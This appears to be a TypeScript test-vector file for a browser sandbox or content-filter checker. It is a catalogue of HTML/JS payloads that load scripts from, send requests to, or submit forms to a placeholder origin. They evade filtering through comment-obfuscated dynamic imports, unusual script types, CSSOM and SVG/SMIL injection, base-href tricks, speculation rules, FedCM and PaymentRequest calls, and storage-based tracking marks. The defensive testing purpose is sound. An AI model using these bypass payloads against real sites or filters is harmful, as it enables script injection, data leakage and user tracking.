import { group, js } from '../vector.ts';

// Found by an attack in November 2026: ordinary ways of tags and frameworks, most of which leaked.

const S = `var s=document.createElement('script');`;
const D = `<div id="d">x</div>`;
const bg = `background:url({{o}}/p.gif)`;
const blob = (text: string) => `URL.createObjectURL(new Blob([\`${text}\`],{type:'text/javascript'}))`;
const F = `var f=document.createElement('iframe');document.body.append(f);`;
const later = (t: string) => `setTimeout(()=>{${t}},60)`;

export const moreScripts = group('more-scripts', [
  ['import-comment', 'XR', js(`import(/* webpackIgnore: true */ '{{o}}/m.mjs').catch(()=>{})`)],
  ['import-vite-comment', 'XR', js(`import(/* @vite-ignore */"{{o}}/m.mjs").catch(()=>{})`)],
  ['import-line-comment', 'XR', js(`import(// x\n'{{o}}/m.mjs').catch(()=>{})`)],
  ['import-variable', 'XR', js(`const u='{{o}}/m.mjs';import(u).catch(()=>{})`)],
  ['import-template-parts', 'XR', js('var h="{{o}}";import(`${h}/m.mjs`).catch(()=>{})')],
  ['import-new-url', 'XR', js(`import(new URL('{{o}}/m.mjs')).catch(()=>{})`)],
  ['import-array', 'XR', js(`['{{o}}/m.mjs'].forEach(u=>import(u).catch(()=>{}))`)],
  ['import-conditional', 'XR', js(`import(true?'{{o}}/m.mjs':'').catch(()=>{})`)],
  ['module-import-variable', 'XR', `<script type="module">const u='{{o}}/m.mjs';await import(u)</script>`],
  ['module-import-comment', 'XR', `<script type="module">import/**/'{{o}}/m.mjs'</script>`],
  ['module-from-comment', 'XR', `<script type="module">import * as a from /* cdn */ '{{o}}/m.mjs'</script>`],
  ['function-import-argument', 'XR', js(`new Function('u','return import(u)')('{{o}}/m.mjs').catch(()=>{})`)],
  [
    'function-import-comment',
    'XR',
    js(`new Function('return import(/* x */"{{o}}/m.mjs")')().catch(()=>{})`),
  ],
  ['eval-import-variable', 'XR', js(`var u='{{o}}/m.mjs';eval('import(u)').catch(()=>{})`)],
  [
    'script-text-import-comment',
    'XR',
    js(`${S}s.textContent="import(/*x*/'{{o}}/m.mjs').catch(()=>{})";document.body.append(s)`),
  ],
  [
    'script-data-module',
    'XR',
    `<script type="module" src="data:text/javascript,import '{{o}}/m.mjs'"></script>`,
  ],
  ['type-upper-space', 'XR', `<script type=" Text/JavaScript " src="{{o}}/x.js"></script>`],
  ['type-ecma-version', 'XR', `<script type="text/javascript1.5" src="{{o}}/x.js"></script>`],
  ['type-jscript', 'XR', `<script type="text/jscript" src="{{o}}/x.js"></script>`],
  ['type-livescript', 'XR', `<script type="text/livescript" src="{{o}}/x.js"></script>`],
  ['type-jscript-dynamic', 'XR', js(`${S}s.type='text/jscript';s.src='{{o}}/x.js';document.body.append(s)`)],
  [
    'type-js15-inline-import',
    'XR',
    `<script type="text/javascript1.5">import('{{o}}/m.mjs').catch(()=>{})</script>`,
  ],
  [
    'inserted-then-type-removed',
    'XR',
    js(
      `${S}s.type='text/x-later';s.src='{{o}}/x.js';document.body.append(s);s.removeAttribute('type');var c=s.cloneNode(true);s.replaceWith(c)`,
    ),
  ],
  [
    'partytown-like',
    'XR',
    `<script type="text/x-lazy" src="{{o}}/x.js"></script>${js(`document.querySelectorAll('script[type="text/x-lazy"]').forEach(o=>{${S}for(const a of o.attributes)if(a.name!=='type')s.setAttributeNode(a.cloneNode());o.replaceWith(s)})`)}`,
  ],
  [
    'rocket-loader-type',
    'XR',
    `<script type="abc-text/javascript" src="{{o}}/x.js"></script>${js(`var o=document.querySelector('script[type^=abc]');${S}s.src=o.src;o.after(s)`)}`,
  ],
  [
    'set-html-run',
    'XR',
    js(
      `var d=document.createElement('div');document.body.append(d);d.setHTMLUnsafe('<scr'+'ipt src="{{o}}/x.js"></scr'+'ipt>',{runScripts:true})`,
    ),
  ],
  [
    'pip-window-fetch',
    'R',
    `<button id="go">go</button>${js(`document.getElementById('go').onclick=()=>documentPictureInPicture.requestWindow().then(w=>w.fetch('{{o}}/data')).catch(e=>{document.title=e})`)}`,
    { click: true },
  ],
  [
    'pip-window-event',
    'R',
    `<button id="go">go</button>${js(`documentPictureInPicture.onenter=e=>e.window.fetch('{{o}}/data').catch(()=>{});document.getElementById('go').onclick=()=>documentPictureInPicture.requestWindow().catch(e=>{})`)}`,
    { click: true },
  ],
  [
    'opened-blob',
    'R',
    `<button id="go">go</button>${js(`document.getElementById('go').onclick=()=>{open(URL.createObjectURL(new Blob(['<img src="{{o}}/p.gif">'],{type:'text/html'})))}`)}`,
    { click: true },
  ],
  [
    'frame-srcdoc-import-comment',
    'XR',
    `<iframe srcdoc="<script>import(/*x*/'{{o}}/m.mjs')</script>"></iframe>`,
  ],
  ['frame-srcdoc-base', 'R', `<iframe srcdoc="<base href='{{o}}/'><img src='p.gif'>"></iframe>`],
  ['write-import-comment', 'XR', js(`document.write('<scr'+'ipt>import(/*x*/"{{o}}/m.mjs")</scr'+'ipt>')`)],
]);

export const moreStyles = group('more-styles', [
  [
    'style-rule-insert',
    'R',
    `<style id="s">body{color:red}</style>${D}${js(`s.sheet.cssRules[0].insertRule('#d{${bg}}')`)}`,
  ],
  [
    'style-map-rule',
    'R',
    `<style id="s">#d{color:red}</style>${D}${js(`s.sheet.cssRules[0].styleMap.set('background-image','url({{o}}/p.gif)')`)}`,
  ],
  [
    'style-map-append',
    'R',
    `<style id="s">#d{color:red}</style>${D}${js(`s.sheet.cssRules[0].styleMap.append('background-image','url({{o}}/p.gif)')`)}`,
  ],
  [
    'append-rule',
    'R',
    `<style id="s">@keyframes k{}#d{animation:k 9s}</style>${D}${js(`s.sheet.cssRules[0].appendRule('from,to{background-image:url({{o}}/p.gif)}')`)}`,
  ],
  [
    'rule-style-cached',
    'R',
    `<style id="s">#d{color:red}</style>${D}${js(`var t=s.sheet.cssRules[0].style;${later(`t.backgroundImage='url({{o}}/p.gif)'`)}`)}`,
  ],
  [
    'rule-style-layout',
    'R',
    `<style id="s">#d{color:red}</style>${D}${js(`s.sheet.cssRules[0].style.backgroundImage='url({{o}}/p.gif)';d.offsetHeight`)}`,
  ],
  [
    'nested-declarations',
    'R',
    `<style id="s">#d{color:red;&:hover{} color:blue}</style>${D}${js(`var r=s.sheet.cssRules[0].cssRules;r[r.length-1].style.backgroundImage='url({{o}}/p.gif)'`)}`,
  ],
  [
    'nested-media-declarations',
    'R',
    `<style id="s">#d{@media all{color:blue}}</style>${D}${js(`s.sheet.cssRules[0].cssRules[0].cssRules[0].style.backgroundImage='url({{o}}/p.gif)'`)}`,
  ],
  [
    'font-face-rule-src',
    'R',
    `<style id="s">@font-face{font-family:f;src:local(x)}</style><p style="font-family:f">x</p>${js(`s.sheet.cssRules[0].style.src='url({{o}}/f.woff2)'`)}`,
  ],
  [
    'register-property',
    'R',
    `<div id="d" style="background:var(--zz)">x</div>${js(`CSS.registerProperty({name:'--zz',syntax:'<image>',inherits:false,initialValue:'url({{o}}/p.gif)'})`)}`,
  ],
  [
    'register-property-url',
    'R',
    `<div id="d" style="background-image:var(--zy)">x</div>${js(`CSS.registerProperty({name:'--zy',syntax:'<url>',inherits:false,initialValue:'url({{o}}/p.gif)'})`)}`,
  ],
  [
    'image-set-url-then-string',
    'R',
    `<style>#d{background-image:image-set(url(own.gif) 2x,"{{o}}/p.gif" 1x)}</style>${D}`,
  ],
  [
    'image-set-type',
    'R',
    `<style>#d{background-image:image-set("own.avif" type("image/none"),"{{o}}/p.gif" type("image/gif"))}</style>${D}`,
  ],
  [
    'image-set-allowed-first',
    'R',
    `<style>#d{background-image:image-set("https://x.cdn.test/a.gif" 2x,"{{o}}/p.gif" 1x)}</style>${D}`,
  ],
  ['url-comment-import', 'R', `<style id="s"></style>${js(`s.textContent='@import/**/"{{o}}/c.css";'`)}`],
  [
    'import-comment-string',
    'R',
    js(
      `var s=document.createElement('style');s.textContent='@import /* cdn */ "{{o}}/c.css";';document.head.append(s)`,
    ),
  ],
  [
    'url-leading-space-string',
    'R',
    `${D}${js(`var s=document.createElement('style');s.textContent='#d{background:url(" {{o}}/p.gif")}';document.head.append(s)`)}`,
  ],
  ['base-relative', 'R', `<div style="background:url(p.gif)">x</div>`, { head: '<base href="{{o}}/">' }],
  [
    'base-relative-style',
    'R',
    `<style>#d{background:url(p.gif)}</style>${D}`,
    { head: '<base href="{{o}}/">' },
  ],
  [
    'base-relative-dynamic',
    'R',
    `${D}${js(`var b=document.createElement('base');b.href='{{o}}/';document.head.append(b);d.style.backgroundImage='url(p.gif)'`)}`,
  ],
  [
    'style-append-two',
    'R',
    js(
      `var s=document.createElement('style');document.head.append(s);s.append('@import "');s.append('{{o}}/c.css";')`,
    ),
  ],
  [
    'svg-presentation-fill',
    'R',
    js(
      `document.body.insertAdjacentHTML('beforeend','<svg><rect width=9 height=9 fill="url({{o}}/p.svg#a)"></svg>')`,
    ),
  ],
  [
    'svg-presentation-clip',
    'R',
    js(
      `document.body.insertAdjacentHTML('beforeend','<svg><rect width=9 height=9 clip-path="url({{o}}/p.svg#a)"></svg>')`,
    ),
  ],
  [
    'svg-presentation-marker',
    'R',
    js(
      `document.body.insertAdjacentHTML('beforeend','<svg><path d="M0 0L9 9" marker-start="url({{o}}/p.svg#a)"></svg>')`,
    ),
  ],
  [
    'svg-presentation-cursor',
    'R',
    `<svg><rect id="r" width=9 height=9></rect></svg>${js(`r.setAttribute('cursor','url({{o}}/p.gif),auto')`)}`,
  ],
  [
    'smil-mask',
    'R',
    `<svg><rect width=9 height=9><set attributeName="mask" to="url({{o}}/p.svg#a)"></set></rect></svg>`,
  ],
  [
    'smil-mask-dynamic',
    'R',
    js(
      `document.body.insertAdjacentHTML('beforeend','<svg><rect width=9 height=9><set attributeName="mask" to="url({{o}}/p.svg#a)"/></rect></svg>')`,
    ),
  ],
  [
    'smil-cursor',
    'R',
    `<svg><rect width=9 height=9><set attributeName="cursor" to="url({{o}}/p.gif),auto"></set></rect></svg>`,
  ],
  [
    'smil-href',
    'R',
    js(
      `document.body.insertAdjacentHTML('beforeend','<svg><image width=9 height=9><set attributeName="href" to="{{o}}/p.gif"/></image></svg>')`,
    ),
  ],
  [
    'smil-animate-href',
    'R',
    js(
      `document.body.insertAdjacentHTML('beforeend','<svg><image width=9 height=9 href="data:,"><animate attributeName="href" values="{{o}}/p.gif;{{o}}/p.gif" dur="9s" repeatCount="indefinite"/></image></svg>')`,
    ),
  ],
  [
    'smil-feimage',
    'R',
    js(
      `document.body.insertAdjacentHTML('beforeend','<svg><filter id=ff><feImage><set attributeName="href" to="{{o}}/p.gif"/></feImage></filter><rect width=9 height=9 filter="url(#ff)"/></svg>')`,
    ),
  ],
  [
    'svg-image-xlink-other-prefix',
    'R',
    `<svg><image id="r" width=9 height=9></image></svg>${js(`r.setAttributeNS('http://www.w3.org/1999/xlink','x:href','{{o}}/p.gif')`)}`,
  ],
  [
    'link-compression-dictionary',
    'R',
    js(
      `var l=document.createElement('link');l.rel='compression-dictionary';l.crossOrigin='anonymous';l.href='{{o}}/data';document.head.append(l)`,
    ),
  ],
  [
    'link-compression-dictionary-html',
    'R',
    '',
    { head: `<link rel="compression-dictionary" crossorigin href="{{o}}/data">` },
  ],
  [
    'font-worker',
    'R',
    js(`self.w=new Worker(${blob(`var f=new FontFace('f','url({{o}}/f.woff2)');f.load().catch(()=>{})`)})`),
  ],
  [
    'animation-iterable',
    'R',
    `${D}${js(`d.animate(new Set([{backgroundImage:'url({{o}}/p.gif)'},{backgroundImage:'url({{o}}/p.gif)'}]),9000)`)}`,
  ],
  [
    'exec-insert-image',
    'R',
    `<div id="d" contenteditable>text</div>${js(`d.focus();getSelection().selectAllChildren(d);document.execCommand('insertImage',false,'{{o}}/p.gif')`)}`,
  ],
  ['img-srcset-tight', 'R', js(`var i=new Image;i.sizes='900px';i.srcset='own.gif 1w,{{o}}/p.gif 900w'`)],
  [
    'tr-background',
    'R',
    js(
      `document.body.insertAdjacentHTML('beforeend','<table><tbody background="{{o}}/p.gif"><tr background="{{o}}/p.gif"><td>x</table>')`,
    ),
    { most: 2 },
  ],
]);

export const moreNetwork = group('more-network', [
  [
    'rtc-turns',
    'R',
    js(
      `var p=new RTCPeerConnection();p.setConfiguration({iceServers:[{urls:'turns:{{h}}?transport=tcp',username:'a',credential:'b'}]});p.createDataChannel('d');p.createOffer().then(o=>p.setLocalDescription(o)).catch(()=>{})`,
    ),
    { most: 99, connects: true },
  ],
  ['web-socket-stream', 'R', js(`new WebSocketStream('{{w}}/ws').opened.catch(()=>{})`)],
  [
    'web-socket-stream-worker',
    'R',
    js(`self.w=new Worker(${blob(`new WebSocketStream('{{w}}/ws').opened.catch(()=>{})`)})`),
  ],
  [
    'payment-request',
    'R',
    js(
      `new PaymentRequest([{supportedMethods:'{{o}}/pay'}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}}).canMakePayment().catch(()=>{})`,
    ),
  ],
  [
    'payment-has-enrolled',
    'R',
    js(
      `new PaymentRequest([{supportedMethods:'{{o}}/pay'}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}}).hasEnrolledInstrument().catch(()=>{})`,
    ),
  ],
  [
    'payment-show',
    'R',
    `<button id="go">go</button>${js(`document.getElementById('go').onclick=()=>new PaymentRequest([{supportedMethods:'{{o}}/pay'}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}}).show().catch(()=>{})`)}`,
    { click: true },
  ],
  [
    'fedcm',
    'R',
    js(
      `navigator.credentials.get({identity:{providers:[{configURL:'{{o}}/fedcm.json',clientId:'1',nonce:'1'}]}}).catch(()=>{})`,
    ),
  ],
  [
    'fedcm-frame',
    'R',
    js(
      `${F}f.contentWindow.navigator.credentials.get({identity:{providers:[{configURL:'{{o}}/fedcm.json',clientId:'1'}]}}).catch(()=>{})`,
    ),
  ],
  [
    'fedcm-active',
    'R',
    `<button id="go">go</button>${js(`document.getElementById('go').onclick=()=>navigator.credentials.get({identity:{mode:'active',providers:[{configURL:'{{o}}/fedcm.json',clientId:'1',nonce:'1'}]}}).catch(()=>{})`)}`,
    { click: true },
  ],
  [
    'speculation-document-all',
    'R',
    `<a href="{{o}}/next.html">out</a><script type="speculationrules">{"prefetch":[{"where":{"href_matches":"*://*:*/*"},"eagerness":"immediate"}]}</script>`,
  ],
  [
    'speculation-document-not',
    'R',
    `<a href="{{o}}/next.html">out</a><script type="speculationrules">{"prefetch":[{"where":{"not":{"href_matches":"/admin/*"}},"eagerness":"immediate"}]}</script>`,
  ],
  [
    'speculation-base',
    'R',
    `<script type="speculationrules">{"prefetch":[{"urls":["next.html"]}]}</script>`,
    { head: '<base href="{{o}}/">' },
  ],
  [
    'form-in-shadow',
    'R',
    `<iframe name="sink"></iframe><div id="h"></div>${js(`var r=h.attachShadow({mode:'open'});r.innerHTML='<form method=post target=sink action="{{o}}/form"><button>b</button></form>';r.querySelector('button').click()`)}`,
  ],
  [
    'form-in-shadow-request',
    'R',
    `<iframe name="sink"></iframe><div id="h"></div>${js(`var r=h.attachShadow({mode:'closed'});r.innerHTML='<form method=post target=sink action="{{o}}/form"><input name=a value=1></form>';r.querySelector('form').requestSubmit()`)}`,
  ],
  [
    'form-own-then-changed',
    'R',
    `<iframe name="sink"></iframe><form id="f" method="post" action="own" target="sink"></form>${js(`f.addEventListener('submit',()=>{f.action='{{o}}/form'});f.requestSubmit()`)}`,
  ],
  [
    'worker-blob-import-comment',
    'XR',
    js(`var w=new Worker(${blob(`import(/*x*/'{{o}}/m.mjs')`)},{type:'module'})`),
  ],
  [
    'worker-module-static-comment',
    'XR',
    js(`var w=new Worker(${blob(`import/*x*/'{{o}}/m.mjs'`)},{type:'module'})`),
  ],
  [
    'meta-refresh-no-url',
    'R',
    js(
      `var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;{{o}}/next.html';document.head.append(m)`,
    ),
  ],
]);

export const moreStorage = group('more-storage', [
  [
    'bucket-name',
    'X',
    js(
      `navigator.storageBuckets.open('trk-{{k}}').then(()=>navigator.storageBuckets.keys()).then(k=>{if(k.includes('trk-{{k}}'))mark()}).catch(()=>{})`,
    ),
    { twinless: 'x' },
  ],
  [
    'webkit-file-system',
    'X',
    js(
      `webkitRequestFileSystem(TEMPORARY,999,fs=>fs.root.getFile('{{n}}',{create:true},()=>mark(),()=>{}),()=>{})`.replace(
        'TEMPORARY',
        '0',
      ),
    ),
    { twinless: 'x' },
  ],
  [
    'webkit-file-system-persistent',
    'X',
    js(
      `webkitRequestFileSystem(1,999,fs=>fs.root.getDirectory('{{n}}',{create:true},()=>mark(),()=>{}),()=>{})`,
    ),
    { twinless: 'x' },
  ],
  [
    'opfs-move',
    'S',
    js(
      `navigator.storage.getDirectory().then(async d=>{var f=await d.getFileHandle('cdn_own',{create:true});await f.move('{{n}}')}).catch(()=>{})`,
    ),
    { twinless: 'x' },
  ],
  [
    'opfs-move-directory',
    'S',
    js(
      `navigator.storage.getDirectory().then(async d=>{var f=await d.getFileHandle('cdn_own',{create:true});await f.move(d,'{{n}}')}).catch(()=>{})`,
    ),
    { twinless: 'x' },
  ],
  [
    'local-frame-event-area',
    'S',
    js(
      `${F}f.contentWindow.addEventListener('storage',e=>e.storageArea.setItem('{{n}}','1'));localStorage.setItem('cdn_z','1')`,
    ),
  ],
]);
